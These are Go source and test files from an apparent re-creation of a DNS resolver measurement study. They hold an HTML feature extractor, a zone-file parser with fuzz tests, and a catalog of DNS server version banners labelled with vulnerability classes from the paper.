		if rest[0] == '"' || rest[0] == '\'' {
			q := rest[0]
			if j := strings.IndexByte(rest[1:], q); j >= 0 {
				return rest[1 : 1+j], true
			}
			return rest[1:], true
		}
		j := strings.IndexAny(rest, " \t\n\r")
		if j < 0 {
			return rest, true
		}
		return rest[:j], true
	}
}

// readUntilClose consumes text up to the matching closing tag and returns
// it together with the index after the close.
func readUntilClose(body string, i int, tag string) (string, int) {
	lower := strings.ToLower(body)
	needle := "</" + tag
	j := strings.Index(lower[i:], needle)
	if j < 0 {
		return body[i:], len(body)
	}
	end := i + j
	gt := strings.IndexByte(body[end:], '>')
	if gt < 0 {
		return body[i:end], len(body)
	}
	return body[i:end], end + gt + 1
}
