package htmlx

import (
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func TestExtractBasicPage(t *testing.T) {
	body := `<!DOCTYPE html>
<html>
<head><title>My Page</title><link rel="stylesheet" href="/main.css"></head>
<body>
<!-- a comment with <div> inside -->
<div id="x"><img src="/logo.png"><a href="http://example.com/page">link</a></div>
<script type="text/javascript">var a = 1; function f(){return a;}</script>
</body>
</html>`
	f := Extract(body)
	if f.Title != "My Page" {
		t.Errorf("title = %q", f.Title)
	}
	wantSeq := []string{"html", "head", "title", "link", "body", "div", "img", "a", "script"}
	if !reflect.DeepEqual(f.TagSeq, wantSeq) {
		t.Errorf("tag sequence = %v, want %v", f.TagSeq, wantSeq)
	}
	if f.TagSet["div"] != 1 || f.TagSet["img"] != 1 {
		t.Errorf("tag multiset = %v", f.TagSet)
	}
	if len(f.Srcs) != 1 || f.Srcs[0] != "/logo.png" {
		t.Errorf("srcs = %v", f.Srcs)
	}
	if !reflect.DeepEqual(f.Hrefs, []string{"/main.css", "http://example.com/page"}) {
		t.Errorf("hrefs = %v", f.Hrefs)
	}
	if !strings.Contains(f.Scripts, "function f()") {
		t.Errorf("scripts = %q", f.Scripts)
	}
	if f.BodyLen != len(body) {
		t.Errorf("body length = %d", f.BodyLen)
	}
}

func TestExtractIgnoresCommentsAndClosers(t *testing.T) {
	f := Extract(`<p>a</p><!-- <img src="x"> --><p>b</p>`)
	if len(f.TagSeq) != 2 || f.TagSet["p"] != 2 {
		t.Errorf("seq = %v set = %v", f.TagSeq, f.TagSet)
	}
	if len(f.Srcs) != 0 {
		t.Errorf("commented src extracted: %v", f.Srcs)
	}
}

func TestExtractQuotedGt(t *testing.T) {
	f := Extract(`<a href="/x?a>b">link</a><b>t</b>`)
	if len(f.Hrefs) != 1 || f.Hrefs[0] != "/x?a>b" {
		t.Errorf("hrefs = %v", f.Hrefs)
	}
	if f.TagSet["b"] != 1 {
		t.Errorf("tags after quoted gt lost: %v", f.TagSet)
	}
}

func TestExtractSelfClosingAndCase(t *testing.T) {
	f := Extract(`<IMG SRC="/a.png"/><BR/><DiV CLASS="x">y</DiV>`)
	if f.TagSet["img"] != 1 || f.TagSet["br"] != 1 || f.TagSet["div"] != 1 {
		t.Errorf("tags = %v", f.TagSet)
	}
	if len(f.Srcs) != 1 || f.Srcs[0] != "/a.png" {
		t.Errorf("srcs = %v", f.Srcs)
	}
}

func TestExtractUnterminated(t *testing.T) {
	cases := []string{
		"<div", "<div class=\"x", "text only", "", "<",
		"<script>never closed", "<!-- never closed", "<title>no close",
	}
	for _, c := range cases {
		f := Extract(c) // must not panic
		if f == nil {
			t.Fatalf("nil features for %q", c)
		}
	}
}

func TestExtractScriptWithTags(t *testing.T) {
	f := Extract(`<script>document.write('<div id="injected">');</script><p>x</p>`)
	if !strings.Contains(f.Scripts, "injected") {
		t.Errorf("script body lost: %q", f.Scripts)
	}
	// The div inside the script string must not count as a tag... the
	// tokenizer reads the whole script body as text.
	if f.TagSet["div"] != 0 {
		t.Errorf("script content parsed as tags: %v", f.TagSet)
	}
	if f.TagSet["p"] != 1 {
		t.Errorf("tag after script lost: %v", f.TagSet)
	}
}

func TestAttrValueForms(t *testing.T) {
	cases := []struct {
		attrs string
		name  string
		want  string
		ok    bool
	}{
		{` src="/a"`, "src", "/a", true},
		{` src='/b'`, "src", "/b", true},
		{` src=/c`, "src", "/c", true},
		{` data-src="/d"`, "src", "", false},
		{` class="y" src = "/e"`, "src", "/e", true},
		{` class="y"`, "src", "", false},
	}
	for _, c := range cases {
		got, ok := attrValue(c.attrs, c.name)
		if ok != c.ok || got != c.want {
			t.Errorf("attrValue(%q, %q) = %q/%v, want %q/%v", c.attrs, c.name, got, ok, c.want, c.ok)
		}
	}
}

func TestExtractNeverPanicsProperty(t *testing.T) {
	f := func(b []byte) bool {
		Extract(string(b))
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestTitleStopsAtCloser(t *testing.T) {
	f := Extract(`<title>Hello & Welcome</title><title>second</title>`)
	if f.Title != "Hello & Welcome" {
		t.Errorf("title = %q", f.Title)
	}
}
