// Package zonefile parses and serializes RFC 1035 master files — the
// format the measurement team's authoritative zones (the ground-truth
// domain and the scan base, §3.2/§3.3) are maintained in. The parser
// supports $ORIGIN and $TTL directives, comments, parenthesized
// multi-line records (SOA), quoted TXT strings, relative and absolute
// owner names, and wildcard owners.
package zonefile

import (
	"bufio"
	"fmt"
	"io"
	"net/netip"
	"sort"
	"strconv"
	"strings"

	"goingwild/internal/dnswire"
)

// Zone is a parsed authoritative zone.
type Zone struct {
	Origin  string
	TTL     uint32
	Records []dnswire.ResourceRecord
}

// Parse reads a master file.
func Parse(r io.Reader) (*Zone, error) {
	z := &Zone{TTL: 3600}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1<<16), 1<<20)
	lineNo := 0
	prevOwner := ""
	var pending []string // tokens accumulated across parenthesized lines
	parens := 0
	for sc.Scan() {
		lineNo++
		line := stripComment(sc.Text())
		if strings.TrimSpace(line) == "" && parens == 0 {
			continue
		}
		toks, opens, closes := tokenize(line)
		parens += opens - closes
		if parens < 0 {
			return nil, fmt.Errorf("zonefile:%d: unbalanced parentheses", lineNo)
		}
		startsWithSpace := len(line) > 0 && (line[0] == ' ' || line[0] == '\t')
		if len(pending) == 0 && startsWithSpace && len(toks) > 0 {
			// Continuation of the previous owner.
			toks = append([]string{prevOwner}, toks...)
		}
		pending = append(pending, toks...)
		if parens > 0 {
			continue
		}
		if len(pending) == 0 {
			continue
		}
		if err := z.consume(pending, &prevOwner, lineNo); err != nil {
			return nil, err
		}
		pending = nil
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("zonefile: %w", err)
	}
	if parens != 0 {
		return nil, fmt.Errorf("zonefile: unclosed parenthesis at end of file")
	}
	return z, nil
}

// stripComment removes a ; comment outside quoted strings.
func stripComment(line string) string {
	inQuote := false
	for i := 0; i < len(line); i++ {
		switch line[i] {
		case '"':
			inQuote = !inQuote
		case ';':
			if !inQuote {
				return line[:i]
			}
		}
	}
	return line
}

// tokenize splits a line into tokens, handling quoted strings and
// counting parentheses (which are token separators, not tokens).
func tokenize(line string) (toks []string, opens, closes int) {
	i := 0
	for i < len(line) {
		c := line[i]
		switch {
		case c == ' ' || c == '\t':
			i++
		case c == '(':
			opens++
			i++
		case c == ')':
			closes++
			i++
		case c == '"':
			j := i + 1
			for j < len(line) && line[j] != '"' {
				j++
			}
			toks = append(toks, line[i:minInt(j+1, len(line))])
			i = j + 1
		default:
			j := i
			for j < len(line) && line[j] != ' ' && line[j] != '\t' && line[j] != '(' && line[j] != ')' {
				j++
			}
			toks = append(toks, line[i:j])
			i = j
		}
	}
	return toks, opens, closes
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// consume interprets one logical record (or directive).
func (z *Zone) consume(toks []string, prevOwner *string, lineNo int) error {
	switch strings.ToUpper(toks[0]) {
	case "$ORIGIN":
		if len(toks) < 2 {
			return fmt.Errorf("zonefile:%d: $ORIGIN needs a name", lineNo)
		}
		z.Origin = dnswire.CanonicalName(toks[1])
		return nil
	case "$TTL":
		if len(toks) < 2 {
			return fmt.Errorf("zonefile:%d: $TTL needs a value", lineNo)
		}
		v, err := parseTTL(toks[1])
		if err != nil {
			return fmt.Errorf("zonefile:%d: %w", lineNo, err)
		}
		z.TTL = v
		return nil
	}

	owner := z.absName(toks[0])
	*prevOwner = toks[0]
	rest := toks[1:]

	ttl := z.TTL
	if len(rest) > 0 {
		if v, err := parseTTL(rest[0]); err == nil {
			ttl = v
			rest = rest[1:]
		}
	}
	if len(rest) > 0 && strings.EqualFold(rest[0], "IN") {
		rest = rest[1:]
	}
	if len(rest) == 0 {
		return fmt.Errorf("zonefile:%d: record without type", lineNo)
	}
	typ := strings.ToUpper(rest[0])
	args := rest[1:]
	data, err := z.parseRData(typ, args)
	if err != nil {
		return fmt.Errorf("zonefile:%d: %w", lineNo, err)
	}
	z.Records = append(z.Records, dnswire.ResourceRecord{
		Name: owner, Class: dnswire.ClassIN, TTL: ttl, Data: data,
	})
	return nil
}

// absName resolves an owner token against the origin.
func (z *Zone) absName(tok string) string {
	switch {
	case tok == "@":
		return z.Origin
	case strings.HasSuffix(tok, "."):
		return dnswire.CanonicalName(tok)
	case z.Origin == "":
		return dnswire.CanonicalName(tok)
	default:
		return dnswire.CanonicalName(tok + "." + z.Origin)
	}
}

// parseTTL parses numeric TTLs with optional s/m/h/d/w unit suffixes.
func parseTTL(tok string) (uint32, error) {
	mult := uint32(1)
	t := strings.ToLower(tok)
	if len(t) > 1 {
		switch t[len(t)-1] {
		case 's':
			t = t[:len(t)-1]
		case 'm':
			mult, t = 60, t[:len(t)-1]
		case 'h':
			mult, t = 3600, t[:len(t)-1]
		case 'd':
			mult, t = 86400, t[:len(t)-1]
		case 'w':
			mult, t = 604800, t[:len(t)-1]
		}
	}
	v, err := strconv.ParseUint(t, 10, 32)
	if err != nil {
		return 0, fmt.Errorf("bad TTL %q", tok)
	}
	return uint32(v) * mult, nil
}

func (z *Zone) parseRData(typ string, args []string) (dnswire.RData, error) {
	need := func(n int) error {
		if len(args) < n {
			return fmt.Errorf("%s needs %d fields, got %d", typ, n, len(args))
		}
		return nil
	}
	switch typ {
	case "A":
		if err := need(1); err != nil {
			return nil, err
		}
		addr, err := netip.ParseAddr(args[0])
		if err != nil || !addr.Is4() {
			return nil, fmt.Errorf("bad A address %q", args[0])
		}
		return dnswire.A{Addr: addr}, nil
	case "AAAA":
		if err := need(1); err != nil {
			return nil, err
		}
		addr, err := netip.ParseAddr(args[0])
		if err != nil || !addr.Is6() {
			return nil, fmt.Errorf("bad AAAA address %q", args[0])
		}
		return dnswire.AAAA{Addr: addr}, nil
	case "NS":
		if err := need(1); err != nil {
			return nil, err
		}
		return dnswire.NS{Host: z.absName(args[0])}, nil
	case "CNAME":
		if err := need(1); err != nil {
			return nil, err
		}
		return dnswire.CNAME{Target: z.absName(args[0])}, nil
	case "PTR":
		if err := need(1); err != nil {
			return nil, err
		}
		return dnswire.PTR{Target: z.absName(args[0])}, nil
	case "MX":
		if err := need(2); err != nil {
			return nil, err
		}
		pref, err := strconv.ParseUint(args[0], 10, 16)
		if err != nil {
			return nil, fmt.Errorf("bad MX preference %q", args[0])
		}
		return dnswire.MX{Preference: uint16(pref), Host: z.absName(args[1])}, nil
	case "TXT":
		if err := need(1); err != nil {
			return nil, err
		}
		var strs []string
		for _, a := range args {
			strs = append(strs, strings.Trim(a, "\""))
		}
		return dnswire.TXT{Strings: strs}, nil
	case "SOA":
		if err := need(7); err != nil {
			return nil, err
		}
		nums := make([]uint32, 5)
		for i := 0; i < 5; i++ {
			v, err := parseTTL(args[2+i])
			if err != nil {
				return nil, fmt.Errorf("bad SOA field %q", args[2+i])
			}
			nums[i] = v
		}
		return dnswire.SOA{
			MName: z.absName(args[0]), RName: z.absName(args[1]),
			Serial: nums[0], Refresh: nums[1], Retry: nums[2],
			Expire: nums[3], Minimum: nums[4],
		}, nil
	default:
		return nil, fmt.Errorf("unsupported record type %q", typ)
	}
}

// Lookup returns the records matching a name and type, applying wildcard
// owners (*.zone) when no exact match exists. ANY matches all types.
func (z *Zone) Lookup(name string, typ dnswire.Type) []dnswire.ResourceRecord {
	cn := dnswire.CanonicalName(name)
	match := func(owner string) []dnswire.ResourceRecord {
		var out []dnswire.ResourceRecord
		for _, rr := range z.Records {
			if rr.Name != owner {
				continue
			}
			if typ == dnswire.TypeANY || rr.Type() == typ {
				out = append(out, rr)
			}
		}
		return out
	}
	if out := match(cn); len(out) > 0 {
		return out
	}
	// Wildcard (RFC 1034 §4.3.3): a "*.<suffix>" owner matches any
	// descendant of <suffix>; try each ancestor, closest first.
	rest := cn
	for {
		i := strings.IndexByte(rest, '.')
		if i < 0 {
			break
		}
		rest = rest[i+1:]
		if out := match("*." + rest); len(out) > 0 {
			// Answer with the queried name as owner.
			res := make([]dnswire.ResourceRecord, len(out))
			for k, rr := range out {
				rr.Name = cn
				res[k] = rr
			}
			return res
		}
	}
	return nil
}

// SOA returns the zone's SOA record, if present.
func (z *Zone) SOA() (dnswire.ResourceRecord, bool) {
	for _, rr := range z.Records {
		if rr.Type() == dnswire.TypeSOA {
			return rr, true
		}
	}
	return dnswire.ResourceRecord{}, false
}

// InZone reports whether a name falls under the zone origin.
func (z *Zone) InZone(name string) bool {
	cn := dnswire.CanonicalName(name)
	return cn == z.Origin || strings.HasSuffix(cn, "."+z.Origin)
}

// Serialize writes the zone back out in master-file format.
func (z *Zone) Serialize(w io.Writer) error {
	bw := bufio.NewWriter(w)
	fmt.Fprintf(bw, "$ORIGIN %s.\n$TTL %d\n", z.Origin, z.TTL)
	recs := append([]dnswire.ResourceRecord(nil), z.Records...)
	sort.SliceStable(recs, func(i, j int) bool {
		if recs[i].Name != recs[j].Name {
			return recs[i].Name < recs[j].Name
		}
		return recs[i].Type() < recs[j].Type()
	})
	for _, rr := range recs {
		fmt.Fprintf(bw, "%-30s %6d IN %-6s %s\n", rr.Name+".", rr.TTL, rr.Type(), rr.Data)
	}
	return bw.Flush()
}
