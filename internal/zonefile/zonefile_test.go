package zonefile

import (
	"bytes"
	"os"
	"strings"
	"testing"

	"goingwild/internal/dnswire"
)

const sampleZone = `
$ORIGIN dnsstudy.example.edu.
$TTL 1h
@       IN SOA ns1 hostmaster (
            2015010101 ; serial
            2h         ; refresh
            15m        ; retry
            2w         ; expire
            1d )       ; minimum
@       IN NS  ns1
@       IN NS  ns2.other.example.
ns1     IN A   192.0.2.1
gt      300 IN A 192.0.2.10
gt      IN TXT "ground truth" "second string"
www     IN CNAME gt
mail    IN MX  10 mx1
mx1     IN A   192.0.2.20
*.scan  IN A   192.0.2.99   ; wildcard for encoded scan names
6h-ttl  21600 IN A 192.0.2.30
`

func parseSample(t *testing.T) *Zone {
	t.Helper()
	z, err := Parse(strings.NewReader(sampleZone))
	if err != nil {
		t.Fatal(err)
	}
	return z
}

func TestParseDirectives(t *testing.T) {
	z := parseSample(t)
	if z.Origin != "dnsstudy.example.edu" {
		t.Errorf("origin = %q", z.Origin)
	}
	if z.TTL != 3600 {
		t.Errorf("default TTL = %d", z.TTL)
	}
}

func TestParseSOAAcrossLines(t *testing.T) {
	z := parseSample(t)
	soaRR, ok := z.SOA()
	if !ok {
		t.Fatal("no SOA")
	}
	soa := soaRR.Data.(dnswire.SOA)
	if soa.Serial != 2015010101 {
		t.Errorf("serial = %d", soa.Serial)
	}
	if soa.Refresh != 7200 || soa.Retry != 900 || soa.Expire != 1209600 || soa.Minimum != 86400 {
		t.Errorf("SOA timers = %+v", soa)
	}
	if soa.MName != "ns1.dnsstudy.example.edu" {
		t.Errorf("mname = %q", soa.MName)
	}
}

func TestRelativeAndAbsoluteNames(t *testing.T) {
	z := parseSample(t)
	ns := z.Lookup("dnsstudy.example.edu", dnswire.TypeNS)
	if len(ns) != 2 {
		t.Fatalf("NS records = %d", len(ns))
	}
	hosts := map[string]bool{}
	for _, rr := range ns {
		hosts[rr.Data.(dnswire.NS).Host] = true
	}
	if !hosts["ns1.dnsstudy.example.edu"] || !hosts["ns2.other.example"] {
		t.Errorf("NS hosts = %v", hosts)
	}
}

func TestPerRecordTTL(t *testing.T) {
	z := parseSample(t)
	a := z.Lookup("gt.dnsstudy.example.edu", dnswire.TypeA)
	if len(a) != 1 || a[0].TTL != 300 {
		t.Errorf("gt A = %+v", a)
	}
	b := z.Lookup("6h-ttl.dnsstudy.example.edu", dnswire.TypeA)
	if len(b) != 1 || b[0].TTL != 21600 {
		t.Errorf("6h A = %+v", b)
	}
}

func TestQuotedTXT(t *testing.T) {
	z := parseSample(t)
	txt := z.Lookup("gt.dnsstudy.example.edu", dnswire.TypeTXT)
	if len(txt) != 1 {
		t.Fatalf("TXT records = %d", len(txt))
	}
	strs := txt[0].Data.(dnswire.TXT).Strings
	if len(strs) != 2 || strs[0] != "ground truth" || strs[1] != "second string" {
		t.Errorf("TXT = %v", strs)
	}
}

func TestWildcardLookup(t *testing.T) {
	z := parseSample(t)
	a := z.Lookup("r7.c0a80101.scan.dnsstudy.example.edu", dnswire.TypeA)
	if len(a) != 1 {
		t.Fatalf("wildcard match = %d records", len(a))
	}
	if a[0].Name != "r7.c0a80101.scan.dnsstudy.example.edu" {
		t.Errorf("wildcard owner rewritten to %q", a[0].Name)
	}
	if a[0].Data.(dnswire.A).Addr.String() != "192.0.2.99" {
		t.Errorf("wildcard A = %v", a[0].Data)
	}
	// Exact matches beat wildcards.
	if got := z.Lookup("gt.dnsstudy.example.edu", dnswire.TypeA); len(got) != 1 ||
		got[0].Data.(dnswire.A).Addr.String() != "192.0.2.10" {
		t.Error("exact match shadowed by wildcard")
	}
}

func TestLookupANY(t *testing.T) {
	z := parseSample(t)
	all := z.Lookup("gt.dnsstudy.example.edu", dnswire.TypeANY)
	if len(all) != 2 { // A + TXT
		t.Errorf("ANY records = %d", len(all))
	}
}

func TestInZone(t *testing.T) {
	z := parseSample(t)
	if !z.InZone("deep.sub.dnsstudy.example.edu") || !z.InZone("dnsstudy.example.edu") {
		t.Error("in-zone names rejected")
	}
	if z.InZone("other.example.edu") || z.InZone("evil-dnsstudy.example.edu") {
		t.Error("out-of-zone names accepted")
	}
}

func TestSerializeRoundTrip(t *testing.T) {
	z := parseSample(t)
	var buf bytes.Buffer
	if err := z.Serialize(&buf); err != nil {
		t.Fatal(err)
	}
	z2, err := Parse(&buf)
	if err != nil {
		t.Fatalf("reparse: %v\n%s", err, buf.String())
	}
	if len(z2.Records) != len(z.Records) {
		t.Errorf("record count %d → %d", len(z.Records), len(z2.Records))
	}
	if z2.Origin != z.Origin {
		t.Errorf("origin %q → %q", z.Origin, z2.Origin)
	}
	a := z2.Lookup("gt.dnsstudy.example.edu", dnswire.TypeA)
	if len(a) != 1 || a[0].TTL != 300 {
		t.Errorf("round-tripped gt A = %+v", a)
	}
}

func TestParseErrors(t *testing.T) {
	cases := map[string]string{
		"bad type":    "$ORIGIN x.\n@ IN BOGUS data\n",
		"bad A":       "$ORIGIN x.\n@ IN A not-an-ip\n",
		"bad MX":      "$ORIGIN x.\n@ IN MX ten mx1\n",
		"short SOA":   "$ORIGIN x.\n@ IN SOA ns1 host 1 2\n",
		"unbalanced":  "$ORIGIN x.\n@ IN SOA ns1 host ( 1 2 3 4 5\n",
		"no type":     "$ORIGIN x.\nname 300 IN\n",
		"bare origin": "$ORIGIN\n",
	}
	for name, input := range cases {
		if _, err := Parse(strings.NewReader(input)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func TestTTLUnits(t *testing.T) {
	cases := map[string]uint32{"30": 30, "45s": 45, "2m": 120, "3h": 10800, "1d": 86400, "2w": 1209600}
	for tok, want := range cases {
		got, err := parseTTL(tok)
		if err != nil || got != want {
			t.Errorf("parseTTL(%q) = %d/%v, want %d", tok, got, err, want)
		}
	}
	if _, err := parseTTL("xx"); err == nil {
		t.Error("bad TTL accepted")
	}
}

func TestShippedZoneFileParses(t *testing.T) {
	f, err := os.Open("../../zones/dnsstudy.zone")
	if err != nil {
		t.Skipf("zone asset not present: %v", err)
	}
	defer f.Close()
	z, err := Parse(f)
	if err != nil {
		t.Fatal(err)
	}
	if z.Origin != "dnsstudy.example.edu" || len(z.Records) < 8 {
		t.Errorf("shipped zone parsed as %q with %d records", z.Origin, len(z.Records))
	}
	if got := z.Lookup("p1.c0a80105.scan.dnsstudy.example.edu", dnswire.TypeA); len(got) != 1 {
		t.Error("shipped wildcard not matching scan names")
	}
}
