package zonefile

import (
	"bytes"
	"strings"
	"testing"
)

// FuzzParse hardens the master-file parser: arbitrary input must never
// panic, and every successfully parsed zone must serialize and reparse.
func FuzzParse(f *testing.F) {
	f.Add(sampleZone)
	f.Add("$ORIGIN x.\n@ IN A 1.2.3.4\n")
	f.Add("$TTL 1h\n")
	f.Add("( ( (")
	f.Add("name IN TXT \"unterminated")
	f.Fuzz(func(t *testing.T, input string) {
		z, err := Parse(strings.NewReader(input))
		if err != nil {
			return
		}
		var buf bytes.Buffer
		if err := z.Serialize(&buf); err != nil {
			t.Fatalf("parsed zone does not serialize: %v", err)
		}
		if z.Origin == "" {
			return // serialized form needs an origin to reparse owners
		}
		if _, err := Parse(&buf); err != nil {
			t.Fatalf("serialized zone does not reparse: %v\n%s", err, buf.String())
		}
	})
}
