package software

import (
	"math"
	"testing"
)

func TestWeightsSumToOne(t *testing.T) {
	if got := TotalWeight(); math.Abs(got-1.0) > 0.001 {
		t.Errorf("weight sum = %.4f", got)
	}
}

func TestTable3TopTenWeights(t *testing.T) {
	want := []struct {
		vendor, version string
		weight          float64
	}{
		{"BIND", "9.8.2", 0.198},
		{"BIND", "9.3.6", 0.089},
		{"BIND", "9.7.3", 0.057},
		{"BIND", "9.9.5", 0.052},
		{"Unbound", "1.4.22", 0.048},
		{"Dnsmasq", "2.40", 0.046},
		{"BIND", "9.8.4", 0.039},
		{"PowerDNS", "3.5.3", 0.032},
		{"Dnsmasq", "2.52", 0.029},
		{"Microsoft DNS", "6.1.7601", 0.025},
	}
	for i, w := range want {
		e := Catalog[i]
		if e.Vendor != w.vendor || e.Version != w.version || e.Weight != w.weight {
			t.Errorf("catalog[%d] = %s %s %.3f, want %s %s %.3f",
				i, e.Vendor, e.Version, e.Weight, w.vendor, w.version, w.weight)
		}
	}
}

func TestBINDFamilyShare(t *testing.T) {
	if got := VendorShare()["BIND"]; math.Abs(got-0.602) > 0.005 {
		t.Errorf("BIND share = %.3f, want 0.602 (§2.4)", got)
	}
}

func TestTopTenAllVulnerable(t *testing.T) {
	// Table 3: all Top-10 versions are susceptible to DoS attacks.
	for _, e := range Catalog[:10] {
		hasDoS := false
		for _, v := range e.Vulns {
			if v == VulnDoS {
				hasDoS = true
			}
		}
		if !hasDoS {
			t.Errorf("%s %s lacks the DoS annotation", e.Vendor, e.Version)
		}
	}
}

func TestBannersNonEmpty(t *testing.T) {
	for _, e := range Catalog {
		if e.Bind == "" || e.Server == "" {
			t.Errorf("%s %s has empty banner", e.Vendor, e.Version)
		}
	}
	for _, h := range HiddenStrings {
		if h == "" {
			t.Error("empty hidden string")
		}
	}
}
