// Package software catalogs the DNS server software population behind the
// CHAOS version fingerprinting study (§2.4, Table 3). The virtual
// Internet serves these version strings on version.bind / version.server
// queries; the fingerprinting pipeline parses them back and annotates the
// known vulnerabilities.
package software

// Vuln is a vulnerability class from Table 3's CVE column.
type Vuln string

// Vulnerability classes.
const (
	VulnDoS         Vuln = "DoS"
	VulnIPBypass    Vuln = "IP Bypass"
	VulnMemCorrupt  Vuln = "Mem. Corr./Leak."
	VulnMemOverflow Vuln = "Mem. Overfl."
	VulnRCE         Vuln = "RCE"
)

// Entry is one software version in the population.
type Entry struct {
	Vendor  string // e.g. "BIND"
	Version string // e.g. "9.8.2"
	// Bind and Server are the TXT payloads returned for version.bind
	// and version.server respectively.
	Bind   string
	Server string
	// Weight is the share among resolvers that return version
	// information (33.9% of CHAOS responders). Top-10 weights follow
	// Table 3.
	Weight     float64
	Released   string
	Deprecated string
	Vulns      []Vuln
}

// Catalog is the versioned-software population. The first ten entries are
// Table 3's Top 10; the tail fills the remaining 38.5% while keeping the
// BIND family at 60.2% overall.
var Catalog = []Entry{
	{"BIND", "9.8.2", "9.8.2", "9.8.2", 0.198, "Apr 2012", "May 2012",
		[]Vuln{VulnIPBypass, VulnDoS, VulnMemCorrupt}},
	{"BIND", "9.3.6", "9.3.6-P1-RedHat-9.3.6-20.P1.el5", "9.3.6", 0.089, "Nov 2008", "Jan 2009",
		[]Vuln{VulnDoS}},
	{"BIND", "9.7.3", "9.7.3", "9.7.3", 0.057, "Feb 2011", "Nov 2012",
		[]Vuln{VulnMemOverflow, VulnDoS}},
	{"BIND", "9.9.5", "9.9.5-3-Ubuntu", "9.9.5", 0.052, "Feb 2014", "",
		[]Vuln{VulnDoS}},
	{"Unbound", "1.4.22", "unbound 1.4.22", "unbound 1.4.22", 0.048, "Mar 2014", "Nov 2014",
		[]Vuln{VulnMemOverflow, VulnDoS}},
	{"Dnsmasq", "2.40", "dnsmasq-2.40", "dnsmasq-2.40", 0.046, "Aug 2007", "Feb 2008",
		[]Vuln{VulnRCE, VulnDoS}},
	{"BIND", "9.8.4", "9.8.4-rpz2+rl005.12-P1", "9.8.4", 0.039, "Oct 2012", "May 2013",
		[]Vuln{VulnIPBypass, VulnDoS}},
	{"PowerDNS", "3.5.3", "PowerDNS Recursor 3.5.3", "PowerDNS Recursor 3.5.3", 0.032, "Sep 2013", "Jun 2014",
		[]Vuln{VulnMemOverflow, VulnDoS}},
	{"Dnsmasq", "2.52", "dnsmasq-2.52", "dnsmasq-2.52", 0.029, "Jan 2010", "Jun 2010",
		[]Vuln{VulnDoS}},
	{"Microsoft DNS", "6.1.7601", "Microsoft DNS 6.1.7601 (1DB15D39)", "Microsoft DNS 6.1.7601", 0.025, "Jun 2011", "Aug 2011",
		[]Vuln{VulnDoS}},
	// Tail: keeps BIND at 60.2% of the versioned population.
	{"BIND", "9.8.1", "9.8.1-P1", "9.8.1", 0.058, "Aug 2011", "Nov 2011", []Vuln{VulnDoS}},
	{"BIND", "9.2.4", "9.2.4", "9.2.4", 0.050, "Sep 2004", "Mar 2005", []Vuln{VulnDoS, VulnMemOverflow}},
	{"BIND", "9.10.1", "9.10.1-P1", "9.10.1", 0.057, "Jun 2014", "", []Vuln{VulnDoS}},
	{"Unbound", "1.4.20", "unbound 1.4.20", "unbound 1.4.20", 0.040, "Mar 2013", "Mar 2014", []Vuln{VulnDoS}},
	{"Dnsmasq", "2.62", "dnsmasq-2.62", "dnsmasq-2.62", 0.055, "Apr 2012", "", []Vuln{VulnDoS}},
	{"Dnsmasq", "2.45", "dnsmasq-2.45", "dnsmasq-2.45", 0.040, "Jul 2008", "Jan 2009", []Vuln{VulnDoS}},
	{"PowerDNS", "3.6.1", "PowerDNS Recursor 3.6.1", "PowerDNS Recursor 3.6.1", 0.030, "Aug 2014", "", nil},
	{"Microsoft DNS", "6.0.6002", "Microsoft DNS 6.0.6002 (17724655)", "Microsoft DNS 6.0.6002", 0.028, "Apr 2009", "Jul 2011", []Vuln{VulnDoS}},
	{"Nominum Vantio", "5.4.1", "Nominum Vantio 5.4.1.0", "Nominum Vantio 5.4.1.0", 0.015, "May 2013", "", nil},
	{"djbdns", "1.05", "dnscache 1.05", "dnscache 1.05", 0.012, "Feb 2001", "", nil},
}

// HiddenStrings are administrator-configured CHAOS replies that hide the
// real version (18.8% of CHAOS responders return such strings).
var HiddenStrings = []string{
	"none",
	"unknown",
	"go away",
	"[secured]",
	"surely you must be joking",
	"9.9.9",
	"ACME nameserver 1.0",
	"contact hostmaster",
	"not disclosed",
	"dns",
}

// TotalWeight returns the catalog weight sum (≈1).
func TotalWeight() float64 {
	var s float64
	for _, e := range Catalog {
		s += e.Weight
	}
	return s
}

// VendorShare aggregates catalog weights by vendor.
func VendorShare() map[string]float64 {
	out := map[string]float64{}
	t := TotalWeight()
	for _, e := range Catalog {
		out[e.Vendor] += e.Weight / t
	}
	return out
}
