package dataset

import (
	"bytes"
	"strings"
	"testing"

	"goingwild/internal/dnswire"
	"goingwild/internal/prefilter"
	"goingwild/internal/scanner"
)

func TestManifestRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	m := Manifest{Paper: "IMC 2015", Order: 18, Seed: 42, ScanSeed: 7, Week: 50, Generator: "goingwild"}
	if err := WriteManifest(&buf, m); err != nil {
		t.Fatal(err)
	}
	got, err := ReadManifest(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got != m {
		t.Errorf("manifest round trip: %+v vs %+v", got, m)
	}
}

func TestSweepRoundTrip(t *testing.T) {
	res := &scanner.SweepResult{Responders: []scanner.Responder{
		{Addr: 0x01020304, Source: 0x01020304, RCode: dnswire.RCodeNoError, Answered: true},
		{Addr: 0x0A0B0C0D, Source: 0x0A0B0CFF, RCode: dnswire.RCodeRefused},
		{Addr: 0xFFFFFFFE, Source: 0xFFFFFFFE, RCode: dnswire.RCodeServFail},
	}}
	var buf bytes.Buffer
	if err := WriteSweep(&buf, res); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(buf.String(), "\n"); lines != 3 {
		t.Errorf("JSONL lines = %d", lines)
	}
	got, err := ReadSweep(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Fatalf("records = %d", len(got))
	}
	for i, r := range got {
		if r != res.Responders[i] {
			t.Errorf("record %d: %+v vs %+v", i, r, res.Responders[i])
		}
	}
}

func TestTuplesRoundTrip(t *testing.T) {
	scan := &scanner.DomainScanResult{
		Resolvers: []uint32{1000, 2000},
		Names:     []string{"chase.com"},
		Answers: [][]scanner.TupleAnswer{{
			{ResolverIdx: 0, RCode: dnswire.RCodeNoError, Addrs: []uint32{100, 101}, Responses: 1},
			{ResolverIdx: 1}, // unanswered: skipped
		}},
	}
